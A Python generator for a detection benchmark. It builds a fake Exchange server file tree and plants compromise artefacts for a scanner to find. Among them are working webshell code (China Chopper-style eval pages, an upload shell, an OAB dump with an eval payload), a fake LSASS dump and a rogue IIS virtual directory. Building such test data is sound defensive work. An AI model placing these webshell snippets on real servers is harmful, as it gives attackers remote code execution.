#!/usr/bin/env python3
"""Benchmark tree for the file checks: a made-up Exchange server's files (no logs).

Writes OUTDIR/tree/C/... with, by default, 100,000+ files and 2+ GB, deterministic for
a seed (own PRNG stream, no clock; file times fixed):

  - Exchange's web folders (FrontEnd\\HttpProxy, ClientAccess\\ecp|owa|...): pages
    (.aspx .ascx .asax written from markup templates), scripts, stylesheets, images;
  - Temporary ASP.NET Files: small compiled-page DLLs (MZ header, random body);
  - Bin and ProgramData: product DLLs and data of 1-64 MB, a few archives;
  - inetpub\\wwwroot with aspnet_client's empty-looking folders;
  - a dozen planted artefacts, listed in OUTDIR/planted.txt (path<TAB>a check expected
    to name it): China Chopper pages, the CVE-2021-27065 OAB dump, an LSASS minidump, a
    file-upload shell, a PST-headed page, a rogue vdir, an archive in VSPerfMon.

The generated Exchange pages are this made-up build's "stock" pages: OUTDIR/allowlist.txt
lists them (path, SHA-256) in exhunt's --allowlist format, as a list made from a clean
server of the same build would, so a scan with it flags the planted files only.

Bulk bytes come from one random pool sliced at pseudo-random offsets: content does not
change the cost of hashing or of YARA's literal search, and slicing is what makes 2 GB
take seconds to write. Files are never executable; nothing in them is working code.

Usage: bench/gen_files.py [--seed N] [--files N] [--big-mb N] OUTDIR
"""
import hashlib
import os
import random
import sys

X = "C/Program Files/Microsoft/Exchange Server/V15/"
VDIRS_FE = ["owa", "ecp", "oab", "ews", "mapi", "rpc", "autodiscover", "powershell", "sync", "rest"]
VDIRS_CA = ["ecp", "owa", "exchweb", "Autodiscover", "OAB", "PushNotifications", "RpcProxy", "Sync"]
WORDS = ("mailbox user group rule policy transport connector domain address list organization "
         "retention journal mobile device calendar contact folder permission role message "
         "queue server database certificate report audit").split()
STATIC = [".js", ".css", ".htm", ".gif", ".png", ".xml", ".resx", ".txt"]


def page(r, name):
    cls = "".join(w.capitalize() for w in r.sample(WORDS, 3))
    body = []
    for _ in range(r.randint(4, 80)):
        w = r.choice(WORDS)
        body.append('<div class="%s"><asp:Label ID="lbl%s%d" runat="server" Text="<%%$ Strings:%s %%>" /></div>'
                    % (w, w.capitalize(), r.randint(0, 999), w))
    head = '<%%@ Page Language="C#" MasterPageFile="~/Orange.master" Inherits="Microsoft.Exchange.Management.ControlPanel.%s" %%>\r\n' % cls
    if name.endswith(".ascx"):
        head = '<%%@ Control Language="C#" Inherits="Microsoft.Exchange.Management.ControlPanel.%s" %%>\r\n' % cls
    elif name.endswith(".asax"):
        return '<%@ Application Inherits="Microsoft.Exchange.HttpProxy.Global" %>\r\n'.encode()
    return (head + "\r\n".join(body) + "\r\n").encode()


def script(r):
    lines = ["// Copyright (c) contoso sample. All rights reserved."]
    for _ in range(r.randint(20, 600)):
        a, b = r.sample(WORDS, 2)
        lines.append("function %s_%s_%d(x){ var o = { %s: x, %s: %d }; return o; }" % (a, b, r.randint(0, 99999), a, b,
                                                                                      r.randint(0, 99)))
    return ("\n".join(lines) + "\n").encode()


class Tree:
    def __init__(self, out, seed):
        self.out = out
        self.r = random.Random(seed)
        self.pool = self.r.randbytes(8 << 20)
        self.files = 0
        self.bytes = 0
        self.planted = []
        self.allow = []

    def blob(self, n, head=b""):
        chunks = [head]
        left = n - len(head)
        while left > 0:
            off = self.r.randrange(0, len(self.pool) - 65536)
            k = min(left, self.r.randint(4096, 65536))
            chunks.append(self.pool[off:off + k])
            left -= k
        return b"".join(chunks)[:n] if n >= len(head) else head

    def put(self, rel, data):
        if rel.startswith(X) and rel.endswith((".aspx", ".ascx", ".asax", ".ashx", ".asmx", ".master")):
            self.allow.append((rel[len(X):].lower(), hashlib.sha256(data).hexdigest()))
        path = os.path.join(self.out, "tree", rel)
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "wb") as f:
            f.write(data)
        os.utime(path, (1614754760, 1614754760))
        self.files += 1
        self.bytes += len(data)

    def plant(self, rel, data, check):
        n = len(self.allow)
        self.put(rel, data)
        del self.allow[n:]  # a planted page is no stock page
        self.planted.append((rel, check))


def main(argv):
    seed, nfiles, big_mb, out = 1, 100000, 1300, None
    args = argv[1:]
    while args:
        a = args.pop(0)
        if a == "--seed":
            seed = int(args.pop(0))
        elif a == "--files":
            nfiles = int(args.pop(0))
        elif a == "--big-mb":
            big_mb = int(args.pop(0))
        elif out is None:
            out = a
        else:
            sys.exit(__doc__)
    if out is None:
        sys.exit(__doc__)
    t = Tree(out, seed)
    r = t.r
    # web folders: pages, scripts, styles, images (60 % of the files)
    n_web = nfiles * 60 // 100
    for i in range(n_web):
        if r.random() < 0.5:
            base = X + "ClientAccess/" + r.choice(VDIRS_CA) + "/" + r.choice(WORDS).capitalize()
        else:
            base = X + "FrontEnd/HttpProxy/" + r.choice(VDIRS_FE) + "/" + r.choice(["scripts", "themes", "resources", "auth/15.1.2176/scripts"])
        ext = r.choice([".aspx", ".ascx", ".asax"] + STATIC * 2)
        name = "%s%s%d%s" % (r.choice(WORDS), r.choice(WORDS).capitalize(), i, ext)
        if ext in (".aspx", ".ascx", ".asax"):
            data = page(r, name)
        elif ext in (".js", ".htm", ".xml", ".resx", ".txt", ".css"):
            data = script(r)
        else:
            data = t.blob(r.randint(200, 30000), b"\x89PNG\r\n\x1a\n" if ext == ".png" else b"GIF89a")
        t.put(base + "/" + name, data)
    # compiled pages (20 %)
    tmp = "C/Windows/Microsoft.NET/Framework64/v4.0.30319/Temporary ASP.NET Files/root/"
    sites = ["%08x/%08x" % (r.getrandbits(32), r.getrandbits(32)) for _ in range(max(nfiles // 100, 1))]
    for i in range(nfiles * 20 // 100):
        t.put("%s%s/App_Web_%08x.dll" % (tmp, r.choice(sites), r.getrandbits(32)),
              t.blob(r.randint(5000, 40000), b"MZ\x90\x00\x03\x00\x00\x00\x04\x00"))
    # ProgramData and product files (the rest, small)
    rest = nfiles - t.files - 16
    for i in range(max(rest, 0)):
        kind = r.random()
        if kind < 0.5:
            data, ext = script(r), ".config.xml"
        elif kind < 0.98:
            data, ext = t.blob(r.randint(500, 20000)), ".dat"
        else:
            data, ext = t.blob(r.randint(2000, 50000), b"PK\x03\x04\x14\x00"), ".zip"
        t.put("C/ProgramData/Microsoft/Exchange/%s/%s%d%s" % (r.choice(WORDS), r.choice(WORDS), i, ext), data)
    # big product files: most of the bytes
    left = big_mb << 20
    i = 0
    while left > 0:
        n = min(left, r.randint(1, 64) << 20)
        t.put(X + "Bin/Microsoft.Exchange.%s%d.dll" % (r.choice(WORDS).capitalize(), i), t.blob(n, b"MZ\x90\x00"))
        left -= n
        i += 1
    # empty-looking aspnet_client, the default page
    t.put("C/inetpub/wwwroot/iisstart.htm", b"<html><body><img src=\"iisstart.png\" /></body></html>\r\n")
    t.put("C/inetpub/wwwroot/aspnet_client/system_web/4_0_30319/WebUIValidation.js", script(r))
    # planted artefacts
    chop = b'<%@ Page Language="Jscript"%><%eval(Request.Item["' + b"%08x" % r.getrandbits(32) + b'"],"unsafe");%>'
    t.plant("C/inetpub/wwwroot/aspnet_client/system_web/Kq7Zt2Lm.aspx", chop, "exh_chopper_eval_request")
    t.plant(X + "FrontEnd/HttpProxy/owa/auth/errorEE.aspx", chop, "exh_chopper_eval_request")
    oab = ("Name                            : OAB (Default Web Site)\r\nPollInterval                    : 480\r\n"
           "OfflineAddressBooks             : \r\nExtendedProtectionTokenChecking : None\r\n"
           "InternalAuthenticationMethods   : WindowsIntegrated\r\n"
           "ExternalUrl                     : http://f/<script language=\"JScript\" runat=\"server\">function Page_Load()"
           "{eval(Request[\"p\"],\"unsafe\");}</script>\r\n").encode()
    t.plant(X + "FrontEnd/HttpProxy/owa/auth/8Hq2LzX0pRt5Wn1V.aspx", oab, "exh_oab_vdir_dump_script")
    t.plant(X + "FrontEnd/HttpProxy/owa/auth/outlookfr.aspx", page(r, "x.aspx"), "file-lookalike-name")
    up = b'<%@ Page Language="C#" %><% HttpPostedFile f = Request.Files[0]; f.SaveAs(Server.MapPath(f.FileName)); %>'
    t.plant(X + "FrontEnd/HttpProxy/ecp/auth/help.aspx", up, "file-known-shell-name")
    t.plant("C/inetpub/wwwroot/aspnet_client/x.aspx", b"!BDN" + t.blob(3000) + b'<%@ Page Language="Jscript"%>',
            "exh_pst_export_page")
    dmp = bytearray(t.blob(12 << 20, b"MDMP\x93\xa7\x00\x00"))
    img = "C:\\Windows\\System32\\lsass.exe".encode("utf-16-le")
    dmp[4096:4096 + len(img)] = img
    t.plant("C/Windows/Temp/lsass.dmp", bytes(dmp), "exh_lsass_minidump")
    t.plant("C/ProgramData/VSPerfMon/a.7z", t.blob(40000, b"7z\xbc\xaf\x27\x1c\x00\x04"), "file-vsperfmon")
    t.plant("C/ProgramData/COM1/x.aspx", chop, "exh_chopper_eval_request")
    t.plant("C/Windows/System32/inetsrv/config/applicationHost.config",
            b'<configuration><system.applicationHost><sites><site name="Default Web Site" id="1">\r\n'
            b'<application path="/COM1"><virtualDirectory path="/" physicalPath="C:\\ProgramData\\COM1" /></application>\r\n'
            b'</site></sites></system.applicationHost></configuration>\r\n', "config-rogue-vdir")
    with open(os.path.join(out, "planted.txt"), "w") as f:
        for rel, check in t.planted:
            f.write("%s\t%s\n" % (rel, check))
    with open(os.path.join(out, "allowlist.txt"), "w") as f:
        f.write("# the generated build's own pages (bench/gen_files.py)\n")
        for rel, sha in t.allow:
            f.write("%s\t%s\n" % (rel, sha))
    print("%d files, %d bytes, %d planted" % (t.files, t.bytes, len(t.planted)))
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
